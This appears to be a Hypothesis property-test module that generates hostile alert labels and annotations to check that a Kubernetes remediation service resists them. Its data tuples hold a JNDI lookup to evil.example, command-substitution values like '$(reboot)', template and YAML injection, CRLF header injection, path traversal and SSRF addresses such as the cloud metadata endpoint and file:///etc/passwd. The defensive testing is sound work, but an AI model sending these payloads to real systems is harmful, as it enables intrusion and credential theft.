"""Texts that strangers might put into labels and annotations, and alerts that are made of them."""

from __future__ import annotations

from hypothesis import strategies as st

from tests.property.test_hostile_labels import ANYTHING, HOSTILE, READ, URLS

NAMED = ("web", "api")
"""The services of ``RECKLESS`` that may be changed."""
ESCAPES = (
    "kube-system", "kube-public", "remediator", "far", "data", "statefulset/data", "elsewhere/deployment/far",
    "shop/../kube-system", "shop/deployment/web", "web/scale", "web/../data", "..%2f..%2fkube-system", ".*",
    "./web", "web/", "//web", "web?dryRun=All", "web#x", "web;data", "web,data", "web data", "web|data", "",
)  # fmt: skip
TEMPLATES = (
    "{{ service.name }}", "{{ labels['namespace'] }}", "{% for x in labels %}{{ x }}{% endfor %}", "{#",
    "${jndi:ldap://evil.example/x}", "${IFS}", "$(reboot)", "`reboot`", "#{7*7}", "<%= 7*7 %>", "%(x)s",
)  # fmt: skip
BREAKERS = (
    '"}', '", "of": "data', "'\"", "\\", "\\u0000", "web\n- name: x\n  mode: auto", "!!python/object:os.f",
    "&a *a", "{a: b}", "null", "~", "true", "1e999", "NaN", "-", "---", "<x/>", "--help", "-o", "--id",
)  # fmt: skip
LOOKALIKES = (
    "w\u0435b", "\uff57\uff45\uff42", "we\u200bb", "web\u202e", "\u2066web\u2069", "WEB", "\u017fhop",
    "\ufeffweb", "web\u2028", "web\u00a0", "web\u0301", "\u1e9e", "\u0130", "da\u00adta", "\U0001f4a5",
)  # fmt: skip
CONTROLS = ("web\r\nX-Evil: 1\r\n\r\n", "web\x1b]0;x\x07", "\x7f", "\x9b31m", "web\x0bdata", "\t", "web\x01")
SELECTORS = ("app in (web, data)", "app!=web", "!app", "*", "a=b,c=d", 'up{x="y"} or vector(1)', "=~.*")
ADDRESSES = (
    "http://169.254.169.254/latest/meta-data/", "http://data.shop:8080/", "http://web.shop:8080@evil.example/",
    "http://evil.example#web.shop:8080", "//evil.example", "file:///etc/passwd", "[::1]:8080", "web:8080",
)  # fmt: skip
LONG = st.builds(
    lambda unit, length: (unit * length)[:length],
    st.sampled_from(["a", "web", "../", "{{", "\u00e9", "-", "(a+)+"]),
    st.sampled_from([63, 64, 253, 254] * 4 + [4095, 4096, 4097, 65536]),
)
"""The longest ones are dead letters, alone."""
ONE = st.one_of(
    *(st.sampled_from(each) for each in (HOSTILE, ESCAPES, TEMPLATES, BREAKERS, LOOKALIKES, SELECTORS)),
    *(st.sampled_from(each) for each in (CONTROLS, ADDRESSES)),
    LONG,
    ANYTHING,
)  # fmt: skip
VALUES = st.builds(
    str, st.one_of(ONE, st.builds(lambda a, b: a + b, st.one_of(ONE, st.sampled_from(NAMED)), ONE))
)
"""Built, so that they count as one where they are chosen among others."""
KEYS = st.one_of(st.sampled_from(READ[1:]), st.sampled_from(READ[1:]).map(str.upper), ONE.filter(bool))
SERVICES = st.one_of(
    *[st.sampled_from(NAMED)] * 2, st.sampled_from(["data", "far", "bare", "stranger"]), VALUES
)
PLACES = st.one_of(
    *[st.just("shop")] * 2, st.sampled_from(["elsewhere", "kube-system", "remediator"]), VALUES
)
PADDED = st.builds(lambda pad, name: f"{pad}{name.upper()}{pad}", st.sampled_from(["", " ", "\n"]), SERVICES)
CHOOSING = st.one_of(
    st.fixed_dictionaries({"severity": st.just("critical"), "service": SERVICES}),
    st.fixed_dictionaries({"severity": st.just("warning"), "deployment": SERVICES}),
    st.fixed_dictionaries({"severity": st.just("info"), "namespace": PADDED}),
    st.fixed_dictionaries({
        "severity": st.sampled_from(["none", "some"]),
        "namespace": PLACES,
        "pod": st.one_of(*[st.sampled_from(["batch-1", "web", "api", "data"])] * 3, VALUES),
    }),
    st.fixed_dictionaries({"severity": VALUES, "job": SERVICES}),
)  # fmt: skip
"""What the rules read to choose: as it should be, or not."""
LABELS = st.builds(
    lambda others, choosing, name: {**others, **choosing, "alertname": name},
    st.dictionaries(KEYS, VALUES, max_size=6),
    CHOOSING,
    VALUES,
)
ANNOTATIONS = st.dictionaries(
    st.one_of(st.sampled_from(["summary", "description", "runbook_url", "dashboard"]), ONE.filter(bool)),
    st.one_of(VALUES, URLS),
    max_size=3,
)
ALERT_LISTS = st.lists(st.tuples(LABELS, ANNOTATIONS), min_size=1, max_size=2)
